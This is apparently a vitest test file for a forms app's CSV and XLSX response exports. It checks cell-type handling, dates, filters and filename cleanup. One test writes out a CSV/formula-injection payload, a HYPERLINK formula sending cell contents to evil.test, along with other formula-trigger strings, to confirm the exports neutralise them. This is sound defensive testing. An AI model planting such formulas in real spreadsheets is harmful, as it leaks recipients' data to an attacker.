import * as XLSX from "@e965/xlsx";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, beforeEach, expect, test } from "vitest";
import type { FormElement } from "../../../app/features/forms/definition/definition.ts";
import type { Form } from "../../../app/features/forms/store/find-form.server.ts";
import { addResponses, person } from "../../factories/form-responses.ts";
import { addPublishedForm, contactQuestions, element } from "../../factories/published-form.ts";
import { csvAt } from "../../setup/csv-at.ts";
import { wordsOf } from "../../setup/fill-form.ts";
import { startApp, type TestApp } from "../../setup/start-app.ts";

type Organiser = Awaited<ReturnType<TestApp["organiser"]>>;

const NOW = new Date("2026-03-10T11:00:00.000Z");
const FORMULA = '=HYPERLINK("http://evil.test?x="&A1,"Click")';

let app: TestApp;
let owner: Organiser;
let form: Form;
let base: string;

beforeAll(async () => {
  app = await startApp({ overrides: { clock: () => NOW } });
  owner = await app.organiser({ email: "owner@lagoon.test" });
});
afterAll(() => app.stop());

beforeEach(async () => {
  form = await addForm([...contactQuestions(), track()]);
  base = `/forms/${form.id}/responses`;
});

const addForm = (elements: FormElement[]) => addPublishedForm(app.context, owner, { elements });

function track(options = ["Data", "Design", "Writing"]): FormElement {
  return element("single-choice", { id: "trackabc", label: "Which track?", settings: { options } });
}

async function sheetAt(path: string): Promise<XLSX.WorkSheet> {
  const answer = await owner.get(path);
  expect([answer.status, answer.headers.get("Content-Type")]).toEqual([
    200,
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
  ]);
  const book = XLSX.read(Buffer.from(await answer.arrayBuffer()), { cellFormula: true });
  return book.Sheets[book.SheetNames[0]!]!;
}

test("C24 both spreadsheets hold answers as text, without formulas", async () => {
  const phone = element("short-text", { id: "phoneabc", label: "=Phone" });
  form = await addForm([...contactQuestions(), phone]);
  base = `/forms/${form.id}/responses`;
  const texts = [
    FORMULA,
    "+2348031234567",
    "0803",
    "-1+2",
    "@SUM(A1)",
    "＝1",
    "a\r\nb",
    'He said "hi", twice',
    "_x0041_ \u0001\ud800 & <b>",
    "007",
  ];
  await addResponses(
    app.context,
    form.id,
    texts.map((text, n) => ({
      answers: person(`P${n}`, "Ọkọ́", { employer: text, phoneabc: text }),
      at: "2026-03-04T22:30:00.000Z",
    })),
  );
  const sheet = await csvAt(owner, `${base}/export.csv`);
  expect(sheet).toHaveLength(texts.length + 1);
  expect(sheet[0]).toEqual([
    ...[
      "No.",
      "Reference",
      "Sent in (West Africa Time)",
      "First name",
      "Last name",
      "Email Address",
      "Where do you work?",
      "'=Phone",
      "Status",
      "Tags",
      "Notes",
    ],
  ]);
  expect(sheet[1]!.slice(2, 6)).toEqual(["2026-03-04 23:30", "P0", "Ọkọ́", "p@people.test"]);
  // A phone number is the one thing that may begin with a plus.
  for (const row of sheet)
    for (const cell of row) expect(cell).not.toMatch(/^(?!\+2348031234567$)[=+\-@\t\r\uff1d]/);
  expect(sheet[2]![6]).toBe("+2348031234567");
  expect(sheet[1]![6]).toBe(`'${FORMULA}`);

  const workbook = await sheetAt(`${base}/export.xlsx`);
  const rows = XLSX.utils.sheet_to_json<string[]>(workbook, { header: 1, raw: true });
  expect(rows[0]!.slice(7, 8)).toEqual(["=Phone"]);
  const kept = texts.map((text) => text.replace(/[\u0001\ud800]/g, "").replace("\r\n", "\n"));
  expect(rows.slice(1).map((row) => row[6])).toEqual(kept);
  expect(rows.slice(1).map((row) => row[7])).toEqual(kept);
  expect(rows[1]![0]).toBe(1);
  for (const [at, cell] of Object.entries(workbook) as [string, XLSX.CellObject][])
    if (!at.startsWith("!"))
      expect([at, cell.f, cell.t]).toEqual([at, undefined, /^[AC](?!1$)/.test(at) ? "n" : "s"]);
});

test("two readers find dates, widths, fixed headings and a filter", async () => {
  form = await addForm([
    ...contactQuestions(),
    element("date", { id: "bornabcd", label: "Date of birth" }),
    element("phone", { id: "phoneabc", label: "Phone" }),
  ]);
  const answers = (bornabcd: string) =>
    person("Ọlá", "Bello", { bornabcd, phoneabc: "+2348031234567", employer: "2026-01-02" });
  await addResponses(app.context, form.id, [
    { answers: answers("1998-02-28"), at: "2026-03-04T22:30:00.000Z" },
    { answers: answers("1871-05-06"), at: "2026-03-05T22:30:00.000Z" },
  ]);
  const answer = await owner.get(`/forms/${form.id}/responses/export.xlsx`);
  const bytes = await answer.arrayBuffer();

  const book = new ExcelJS.Workbook();
  await book.xlsx.load(bytes);
  const sheet = book.worksheets[0]!;
  const row = (number: number) => (sheet.getRow(number).values as ExcelJS.CellValue[]).slice(3);
  expect(row(1).slice(-5)).toEqual(["Date of birth", "Phone", "Status", "Tags", "Notes"]);
  // What was typed stays text, also when it looks like a date; days from before spreadsheets'
  // calendar do too.
  const typed = ["Ọlá", "Bello", "ola@people.test", "2026-01-02"];
  expect(row(2)).toEqual([
    new Date("2026-03-04T23:30:00.000Z"),
    ...typed.map((text) => (text.includes("@") ? expect.any(String) : text)),
    new Date("1998-02-28T00:00:00.000Z"),
    "+2348031234567",
    "New",
  ]);
  expect(row(3).slice(-3)).toEqual(["1871-05-06", "+2348031234567", "New"]);
  expect(sheet.getCell("C2").numFmt).toBe("yyyy-mm-dd hh:mm");
  expect(sheet.getCell("H2").numFmt).toBe("yyyy-mm-dd");
  expect(sheet.autoFilter).toBe("A1:L3");
  expect(sheet.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
  expect(sheet.getCell("C1").font.bold).toBe(true);
  expect(sheet.getColumn(3).width).toBeGreaterThanOrEqual("Sent in (West Africa Time)".length);

  const other = XLSX.read(Buffer.from(bytes), { cellDates: true, cellStyles: true, UTC: true });
  const cells = other.Sheets[other.SheetNames[0]!]!;
  expect(cells["!ref"]).toBe("A1:L3");
  expect([cells.C2.t, cells.C2.v]).toEqual(["d", new Date("2026-03-04T23:30:00.000Z")]);
  expect([cells.H2.t, cells.H3.t, cells.G2.t, cells.I2.t]).toEqual(["d", "s", "s", "s"]);
  expect(cells["!autofilter"]).toEqual({ ref: "A1:L3" });
  expect(cells["!cols"]).toHaveLength(12);
});

test("a spreadsheet holds what the table shows, whatever the form's name", async () => {
  await app.context.db
    .updateTable("forms")
    .set({ title: 'Ọjọ́: "best" [form]/2026?\r\nX: y' })
    .where("id", "=", form.id)
    .execute();
  await addResponses(
    app.context,
    form.id,
    Array.from({ length: 1203 }, (_, n) => ({
      answers: person(`P${n}`, "X", { trackabc: n % 3 ? "Data" : "Design" }),
    })),
  );
  const query = "?q=trackabc&is=Design";
  const numbers = Array.from({ length: 401 }, (_, n) => String(n * 3 + 1));
  expect(
    (await csvAt(owner, `${base}/export.csv${query}`)).slice(1).map(([number]) => number),
  ).toEqual(numbers);
  const rows = XLSX.utils.sheet_to_json<string[]>(await sheetAt(`${base}/export.xlsx${query}`), {
    header: 1,
  });
  expect(rows.slice(1).map(([number]) => String(number))).toEqual(numbers);
  expect(wordsOf(await owner.page(base + query))).toContain("of 401 responses");
  const answer = await owner.get(`${base}/export.xlsx`);
  expect(answer.headers.get("Content-Disposition")).toMatch(
    /^attachment; filename="Ojo best \[form\]2026 X y, responses.xlsx"; /,
  );
  const csv = await owner.get(`${base}/export.csv`);
  expect(csv.headers.get("Content-Disposition")).toBe(
    answer.headers.get("Content-Disposition")!.replaceAll(".xlsx", ".csv"),
  );
  await csv.arrayBuffer();
  expect(answer.headers.get("X")).toBeNull();
  await answer.arrayBuffer();
});
